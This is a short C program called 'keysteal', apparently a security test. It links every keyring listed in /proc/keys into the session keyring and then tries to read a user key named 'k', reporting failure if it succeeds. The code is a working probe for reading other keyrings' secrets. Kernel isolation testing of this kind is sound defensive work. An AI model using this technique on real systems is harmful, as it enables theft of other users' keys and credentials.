/* keysteal: reach keys of other keyrings by permission rather than
 * through our own: every keyring /proc/keys lists (those our user may
 * view) is linked into our session keyring, which makes what it holds
 * ours to read; then user:k is searched for and read. Prints how many
 * were linked and what was found; exits 0 when nothing was. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEY_SPEC_SESSION_KEYRING -3
#define KEYCTL_LINK 8
#define KEYCTL_SEARCH 10
#define KEYCTL_READ 11

int main(void)
{
	char line[512], buf[64];
	FILE *f = fopen("/proc/keys", "r");
	int linked = 0;
	long k, n;

	if (!f) {
		printf("/proc/keys: %s\n", strerror(errno));
		return 2;
	}
	while (fgets(line, sizeof line, f))
		if (strstr(line, " keyring ") &&
		    syscall(SYS_keyctl, KEYCTL_LINK, strtol(line, NULL, 16),
			    KEY_SPEC_SESSION_KEYRING) == 0)
			linked++;
	k = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING,
		    "user", "k", 0);
	if (k < 0) {
		printf("linked %d, search: %s\n", linked, strerror(errno));
		return 0;
	}
	n = syscall(SYS_keyctl, KEYCTL_READ, k, buf, sizeof buf - 1);
	if (n < 0) {
		printf("linked %d, found, read: %s\n", linked, strerror(errno));
		return 1;
	}
	buf[n < (long)sizeof buf ? n : (long)sizeof buf - 1] = '\0';
	printf("linked %d, found, read: %s\n", linked, buf);
	return 1;
}
